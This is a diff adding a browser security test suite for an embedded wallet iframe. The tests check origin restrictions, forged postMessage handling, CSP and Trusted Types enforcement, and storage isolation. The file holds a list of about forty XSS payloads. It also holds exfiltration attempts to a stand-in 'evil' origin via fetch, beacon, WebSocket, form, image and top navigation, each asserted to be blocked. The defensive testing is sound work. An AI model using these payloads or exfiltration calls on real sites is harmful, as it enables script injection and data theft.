@@ -1,0 +1,498 @@
+import type { BrowserContext, Frame, Page } from 'playwright'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { openTrap, openWalletPages, type WalletPages } from './walletPage.fixture.ts'
+
+let world: WalletPages
+beforeAll(async () => {
+  world = await openWalletPages()
+}, 60_000)
+afterAll(() => world?.close())
+
+/** A page of a host, with the host's side of the frame on it. */
+async function visit<T>(origin: string, use: (page: Page) => Promise<T>): Promise<T> {
+  const context = await world.browser.newContext()
+  try {
+    return await visitIn(context, origin, use)
+  } finally {
+    await context.close()
+  }
+}
+
+async function visitIn<T>(
+  context: BrowserContext,
+  origin: string,
+  use: (page: Page) => Promise<T>,
+): Promise<T> {
+  const page = await context.newPage()
+  try {
+    await page.goto(origin)
+    return await use(page)
+  } finally {
+    await page.close()
+  }
+}
+
+/** Opens the wallet in the page and waits until it answers, or answers why it does not. */
+function openWallet(page: Page, projectId = 'shop'): Promise<string> {
+  return page.evaluate(
+    async ([endpoint, projectId]) => {
+      const scope = window as unknown as Host
+      scope.openWallet(endpoint, projectId)
+      return scope.wallet.request('SYNC_THEME', {}).then(
+        () => 'open',
+        (error: { code: string }) => error.code,
+      )
+    },
+    [world.wallet, projectId] as const,
+  )
+}
+
+interface Host {
+  openWallet(endpoint: string, projectId: string): void
+  readonly wallet: {
+    readonly state: string
+    readonly dropped: number
+    whenReady(): Promise<void>
+    request(name: string, payload: unknown): Promise<unknown>
+  }
+  readonly told: unknown[]
+}
+
+function walletFrame(page: Page): Frame {
+  const frame = page.frames().find(each => each.url().startsWith(world.wallet))
+  if (!frame) throw new Error(`no wallet among ${page.frames().map(each => each.url())}`)
+  return frame
+}
+
+test('a listed page opens the wallet; what it may do and load is what it needs (T14, T17)', () =>
+  visit(world.origin('host'), async page => {
+    const asked: string[] = []
+    page.on('request', request => asked.push(request.url()))
+    expect(await openWallet(page)).toBe('open')
+    await page.evaluate(() => (window as unknown as Host).wallet.whenReady())
+    expect(await page.evaluate(() => (window as unknown as Host).wallet.state)).toBe('ready')
+    // SPEC §2 "The email-login frame".
+    expect(
+      await page.locator('iframe#w3m-iframe').evaluate(iframe => {
+        const { position, visibility, borderStyle, zIndex } = getComputedStyle(iframe)
+        return { position, visibility, borderStyle, zIndex }
+      }),
+    ).toEqual({ position: 'fixed', visibility: 'hidden', borderStyle: 'none', zIndex: '2147483647' })
+    expect(asked.filter(url => !url.startsWith(world.wallet))).toEqual([])
+    const features = await walletFrame(page).evaluate(() => {
+      const policy = (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy
+      return policy.allowedFeatures().sort()
+    })
+    expect(features).toEqual(['clipboard-write', 'publickey-credentials-create', 'publickey-credentials-get'])
+  }))
+
+test('requests are answered: what this frame knows, what it does not, and what is never typed into a page (C5, T11)', () =>
+  visit(world.origin('host'), async page => {
+    await openWallet(page)
+    const ask = (name: string, payload: unknown) =>
+      page.evaluate(
+        ([name, payload]) =>
+          (window as unknown as Host).wallet.request(name as string, payload).then(
+            answer => answer,
+            (error: { code: string; message: string }) => [error.code, error.message],
+          ),
+        [name, payload] as const,
+      )
+    expect(await ask('SYNC_THEME', { mode: 'dark', variables: { accent: '#ff0000' } })).toEqual({})
+    expect(await ask('SYNC_DAPP_DATA', { metadata: { name: 'Fernweh Press' } })).toEqual({})
+    for (const name of ['CONNECT_OTP', 'UPDATE_EMAIL_PRIMARY_OTP', 'UPDATE_EMAIL_SECONDARY_OTP'])
+      expect(await ask(name, { otp: '12345678' })).toEqual(['ACTION_NOT_ALLOWED', 'Action not allowed'])
+    expect(await ask('INIT_SMART_ACCOUNT', {})).toMatchObject(['FRAME_UNSUPPORTED', expect.any(String)])
+    expect(await ask('SYNC_THEME', { mode: 'sepia' })).toMatchObject(['CONFIG_INVALID', expect.any(String)])
+  }))
+
+test('another site, a project without a page and one that nobody knows are shown nothing of the wallet (T02)', async () => {
+  const of = (project: string) => `${world.wallet}/v1/?projectId=${project}`
+  await visit(`${world.origin('evil')}/frame?of=${encodeURIComponent(of('shop'))}`, async page => {
+    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
+    // Nor does the address of a listed page in the request make it one.
+    await page.setExtraHTTPHeaders({ referer: world.origin('host'), origin: world.origin('host') })
+    await page.reload()
+    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
+    for (const project of ['empty', 'nobody', '', '../shop']) {
+      await page.goto(`${world.origin('host')}/frame?of=${encodeURIComponent(of(project))}`)
+      await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
+    }
+  })
+})
+
+test('a listed page inside a page of another site is shown nothing of the wallet (T06)', () =>
+  visit(world.origin('evil'), async page => {
+    const inner = `${world.origin('host')}/frame?of=${encodeURIComponent(`${world.wallet}/v1/?projectId=shop`)}`
+    await page.goto(`${world.origin('evil')}/frame?of=${encodeURIComponent(inner)}`)
+    await expect.poll(() => page.frames().length).toBe(3)
+    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
+  }))
+
+test('a page without an origin of its own is shown nothing of the wallet (T05)', () =>
+  visit(world.origin('host'), async page => {
+    await page.evaluate(wallet => {
+      const iframe = document.createElement('iframe')
+      iframe.setAttribute('sandbox', 'allow-scripts')
+      iframe.srcdoc = `<iframe src="${wallet}/v1/?projectId=shop"></iframe>`
+      document.body.append(iframe)
+    }, world.wallet)
+    await expect.poll(() => page.frames().length).toBe(3)
+    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
+  }))
+
+test('on the wallet’s own site, and on its own origin, it does not start and says why (T18)', async () => {
+  await visit(world.origin('app.keys'), async page => {
+    expect(await openWallet(page)).toBe('APKT005')
+    expect(await walletFrame(page).locator('[role=alert]').textContent()).toMatch(/^APKT005:/)
+  })
+  await visit(world.origin('host'), async page => {
+    const script = await page.evaluate(async () => (await fetch('/host.js')).text())
+    const body = `<!doctype html><body><script>${script}</script></body>`
+    await page.route(`${world.wallet}/page`, route => route.fulfill({ contentType: 'text/html', body }))
+    await page.goto(`${world.wallet}/page`)
+    expect(await openWallet(page)).toBe('APKT005')
+  })
+})
+
+test('another site forges every message before, during and after: nothing comes of it (T01)', () =>
+  visit(world.origin('host'), async page => {
+    await page.evaluate(evil => {
+      const iframe = document.createElement('iframe')
+      iframe.src = evil
+      document.body.append(iframe)
+    }, world.origin('evil'))
+    await expect.poll(() => page.frames().length).toBe(2)
+    const evil = page.frames()[1] as Frame
+    const forge = (times: number) =>
+      evil.evaluate(
+        ([host, times]) => {
+          const names = [
+            'FRAME_READY',
+            'FRAME_REFUSED',
+            'HELLO_SUCCESS',
+            'GET_USER_SUCCESS',
+            'SESSION',
+            'AREA',
+          ]
+          for (let round = 0; round < times; round++) {
+            for (const name of names)
+              parent.postMessage(
+                {
+                  type: `@latchkey-frame/${name}`,
+                  payload: { protocol: [1, 1], sdk: 4, isConnected: true, reason: 'origin' },
+                },
+                host as string,
+              )
+          }
+          return times * names.length
+        },
+        [world.origin('host'), times] as const,
+      )
+    // The frame's page is held back, so that the forgeries come first.
+    let release = () => {}
+    const held = new Promise<void>(resolve => {
+      release = resolve
+    })
+    await page.route(`${world.wallet}/v1/?**`, async route => {
+      await held
+      await route.continue()
+    })
+    await page.evaluate(wallet => (window as unknown as Host).openWallet(wallet, 'shop'), world.wallet)
+    const sent = await forge(1_000)
+    await expect.poll(() => page.evaluate(() => (window as unknown as Host).wallet.dropped)).toBe(sent)
+    expect(await page.evaluate(() => (window as unknown as Host).wallet.state)).toBe('loading')
+    release()
+    await page.evaluate(() => (window as unknown as Host).wallet.whenReady())
+    await forge(1_000)
+    // And to the wallet itself, which hears the page around it alone, and once.
+    await evil.evaluate(wallet => {
+      const { port1, port2 } = new MessageChannel()
+      ;(window as unknown as { heard: number }).heard = 0
+      port1.onmessage = () => (window as unknown as { heard: number }).heard++
+      const hello = {
+        type: '@latchkey-app/HELLO',
+        id: crypto.randomUUID(),
+        payload: { protocol: [1, 1], sdk: 4, projectId: 'shop' },
+      }
+      ;(parent.frames[1] as Window).postMessage(hello, wallet, [port2])
+    }, world.wallet)
+    expect(await page.evaluate(() => (window as unknown as Host).wallet.request('SYNC_THEME', {}))).toEqual(
+      {},
+    )
+    expect(
+      await page.evaluate(() => {
+        const { wallet, told } = window as unknown as Host
+        return [wallet.state, told]
+      }),
+    ).toEqual(['ready', []])
+    expect(await evil.evaluate(() => (window as unknown as { heard: number }).heard)).toBe(0)
+  }))
+
+test('a frame that was led elsewhere gets nothing that was meant for the wallet (T03, T12)', () =>
+  visit(world.origin('host'), async page => {
+    await openWallet(page)
+    const before = world.stolen.length
+    const outcome = await page.evaluate(async evil => {
+      const { wallet } = window as unknown as Host
+      const waiting = wallet
+        .request('SHOW_SCREEN', { screen: 'VERIFY_OTP' })
+        .catch((error: { code: string }) => error.code)
+      const iframe = document.querySelector('iframe') as HTMLIFrameElement
+      const loaded = new Promise(resolve => iframe.addEventListener('load', resolve, { once: true }))
+      iframe.src = evil
+      await loaded
+      const later = await wallet
+        .request('CONNECT_EMAIL', { email: 'ada@example.com' })
+        .catch((error: { code: string }) => error.code)
+      return [await waiting, later, wallet.state]
+    }, world.origin('evil'))
+    expect(outcome.slice(1)).toEqual(['IFRAME_LOAD_FAILED', 'failed'])
+    expect(world.stolen.length).toBe(before)
+  }))
+
+test('markup is no way in: what is assigned as text of a page throws (T13)', () =>
+  visit(world.origin('host'), async page => {
+    const reports: string[] = []
+    page.on('console', message => {
+      if (/Content.Security.Policy|TrustedHTML|violates/i.test(message.text())) reports.push(message.text())
+    })
+    await openWallet(page)
+    const payloads = hostileTexts
+    for (const text of payloads) {
+      await page.evaluate(async text => {
+        const { wallet } = window as unknown as Host
+        const metadata = { name: text.slice(0, 200), description: text, url: text, icons: [text] }
+        await wallet.request('SYNC_DAPP_DATA', { metadata })
+        await wallet.request('SYNC_THEME', {
+          variables: { fontFamily: text.slice(0, 300) },
+          texts: { title: text },
+        })
+      }, text)
+    }
+    const frame = walletFrame(page)
+    expect(await frame.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined()
+    expect(reports).toEqual([])
+    const outcomes = await frame.evaluate(async () => {
+      // Not in the task of the debugger, to which this policy does not apply.
+      await new Promise(resolve => setTimeout(resolve, 0))
+      const attempt = (run: () => unknown) => {
+        try {
+          run()
+          return 'ran'
+        } catch (error) {
+          return (error as Error).name
+        }
+      }
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown }
+      }
+      return {
+        markup: attempt(() => {
+          document.body.innerHTML = '<img src=x onerror="window.pwned=true">'
+        }),
+        written: attempt(() => document.write('<p>')),
+        timer: attempt(() => setTimeout('window.pwned = true', 0)),
+        code: attempt(() => new Function('window.pwned = true')()),
+        script: attempt(() => {
+          document.createElement('script').src = 'https://evil.example/x.js'
+        }),
+        policy: attempt(() => trustedTypes.createPolicy('mine', {})),
+      }
+    })
+    expect(outcomes).toEqual({
+      markup: 'TypeError',
+      written: 'TypeError',
+      timer: 'TypeError',
+      code: 'EvalError',
+      script: 'TypeError',
+      policy: 'TypeError',
+    })
+    expect(await frame.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined()
+  }))
+
+test('code that got in could not carry anything out, nor stay (T14, T16)', () =>
+  visit(world.origin('host'), async page => {
+    await openWallet(page)
+    const trap = await openTrap()
+    const before = world.stolen.length
+    const outcomes = await walletFrame(page).evaluate(
+      async ([evil, port]) => {
+        const settle = (work: Promise<unknown>) =>
+          work.then(
+            () => 'ran',
+            error => (error as Error).name,
+          )
+        const load = (element: HTMLElement) =>
+          new Promise(resolve => {
+            element.addEventListener('load', () => resolve('loaded'))
+            element.addEventListener('error', () => resolve('blocked'))
+            document.body.append(element)
+          })
+        const image = new Image()
+        image.src = `${evil}/steal/img`
+        const link = Object.assign(document.createElement('link'), {
+          rel: 'prefetch',
+          href: `${evil}/steal/prefetch`,
+        })
+        const preload = Object.assign(document.createElement('link'), {
+          rel: 'stylesheet',
+          href: `${evil}/steal/style`,
+        })
+        const form = Object.assign(document.createElement('form'), {
+          action: `${evil}/steal/form`,
+          method: 'get',
+          target: '_blank',
+        })
+        document.body.append(form, link)
+        form.submit()
+        let socket = 'open'
+        try {
+          socket = await new Promise(resolve => {
+            const made = new WebSocket(`${(evil as string).replace('http', 'ws')}/steal/socket`)
+            made.onerror = () => resolve('blocked')
+            made.onopen = () => resolve('open')
+          })
+        } catch {
+          socket = 'blocked'
+        }
+        const media = 'RTCPeerConnection' in window || 'WebTransport' in window
+        return {
+          fetch: await settle(fetch(`${evil}/steal/fetch`)),
+          tcp: await settle(fetch(`http://127.0.0.1:${port}/`)),
+          image: await load(image),
+          style: await load(preload),
+          beacon: navigator.sendBeacon(`${evil}/steal/beacon`) ? 'queued' : 'refused',
+          socket,
+          media,
+          worker: await settle(navigator.serviceWorker.register('/v1/assets/x.js')),
+        }
+      },
+      [world.origin('evil'), trap.port] as const,
+    )
+    expect(outcomes).toMatchObject({
+      fetch: 'TypeError',
+      tcp: 'TypeError',
+      image: 'blocked',
+      style: 'blocked',
+      socket: 'blocked',
+      media: false,
+      worker: 'TypeError',
+    })
+    // The services are the one place that it reaches.
+    const reached = await walletFrame(page).evaluate(async url => (await fetch(url)).status, world.services)
+    expect(reached).toBe(200)
+    expect(world.stolen.slice(before)).toEqual([])
+    expect(trap.visits()).toBe(0)
+    trap.close()
+  }))
+
+test('the page around does not move because of it, and it takes nothing along (T14, T20)', () =>
+  visit(world.origin('host'), async page => {
+    await openWallet(page)
+    const outcome = await walletFrame(page).evaluate(
+      evil => {
+        try {
+          ;(window.top as Window).location.href = evil
+          return 'moved'
+        } catch (error) {
+          return (error as Error).name
+        }
+      },
+      `${world.origin('evil')}/steal/top`,
+    )
+    expect(outcome).toBe('SecurityError')
+    expect(page.url()).toContain('host.localhost')
+    expect(await walletFrame(page).evaluate(() => document.referrer)).toBe(`${world.origin('host')}/`)
+  }))
+
+test('what the wallet keeps is kept for one site, and nothing of it is in the page around (T15)', () =>
+  // The browser's own profile: one without traces may deny storage to an iframe.
+  visitIn(world.browser.contexts()[0] as BrowserContext, world.origin('host'), async page => {
+    await openWallet(page)
+    const canary = `canary-${Math.random().toString(36).slice(2)}-secret`
+    await walletFrame(page).evaluate(async canary => {
+      ;(window as unknown as { kept: string }).kept = canary
+      await new Promise<void>((resolve, reject) => {
+        const request = indexedDB.open('canary', 1)
+        request.onupgradeneeded = () => request.result.createObjectStore('kept').put(canary, 'k')
+        request.onsuccess = () => resolve()
+        request.onerror = () => reject(request.error)
+      })
+    }, canary)
+    const seen = await page.evaluate(async () => {
+      const databases = (await indexedDB.databases()).map(({ name }) => name)
+      return JSON.stringify([
+        { ...localStorage },
+        { ...sessionStorage },
+        document.cookie,
+        databases,
+        (window as unknown as Host).told,
+      ])
+    })
+    expect(seen).not.toContain('canary')
+    const session = await page.context().newCDPSession(page)
+    let heap = ''
+    session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => {
+      heap += chunk
+    })
+    await session.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false })
+    expect(heap).toContain('openWallet')
+    expect(heap).not.toContain(canary)
+  }))
+
+test('opened by itself, it says what it is', async () => {
+  await visit(world.origin('host'), async page => {
+    await page.goto(`${world.wallet}/v1/?projectId=shop`)
+    expect(await page.locator('[role=alert]').textContent()).toMatch(/keeps your wallet/)
+    const statuses = await page.evaluate(async () => {
+      const paths = ['/', '/v1', '/v1/assets/', '/v1/assets/..%2f..%2fpackage.json', '/v2/', '/v1/index.html']
+      return Promise.all(paths.map(async path => (await fetch(path).catch(() => undefined))?.status))
+    })
+    // Its own policy lets it ask the services alone.
+    expect(new Set(statuses)).toEqual(new Set([undefined]))
+  })
+})
+
+const hostileTexts = [
+  '<script>window.pwned=true</script>',
+  '<img src=x onerror="window.pwned=true">',
+  '<svg onload="window.pwned=true">',
+  '"><script>window.pwned=true</script>',
+  "'><img src=x onerror=window.pwned=true>",
+  'javascript:window.pwned=true',
+  'JaVaScRiPt:window.pwned=true',
+  'java\nscript:window.pwned=true',
+  'data:text/html,<script>window.pwned=true</script>',
+  'data:image/svg+xml,<svg onload="window.pwned=true" xmlns="http://www.w3.org/2000/svg"/>',
+  'vbscript:window.pwned=true',
+  '$' + '{window.pwned=true}',
+  '{{constructor.constructor("window.pwned=true")()}}',
+  '</style><script>window.pwned=true</script>',
+  '</title><script>window.pwned=true</script>',
+  '</textarea><script>window.pwned=true</script>',
+  '<iframe srcdoc="<script>parent.pwned=true</script>">',
+  '<object data="javascript:window.pwned=true">',
+  '<embed src="javascript:window.pwned=true">',
+  '<a href="javascript:window.pwned=true" autofocus onfocus="window.pwned=true">',
+  '<details open ontoggle="window.pwned=true">',
+  '<video><source onerror="window.pwned=true"></video>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=true">',
+  '<template><script>window.pwned=true</script></template>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=true">',
+  '<form action="javascript:window.pwned=true"><button autofocus>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  'expression(window.pwned=true)',
+  'url("javascript:window.pwned=true")',
+  '";}*{background:url(https://evil.example/x)}',
+  '\\3c script\\3e window.pwned=true',
+  '\u202e>tpircs<',
+  '\u0000<script>window.pwned=true</script>',
+  '%3Cscript%3Ewindow.pwned=true%3C/script%3E',
+  '&lt;script&gt;window.pwned=true&lt;/script&gt;',
+  '&#60;img src=x onerror=window.pwned=true&#62;',
+  'import("data:text/javascript,window.pwned=true")',
+  '__proto__',
+  'constructor.prototype.pwned',
+]
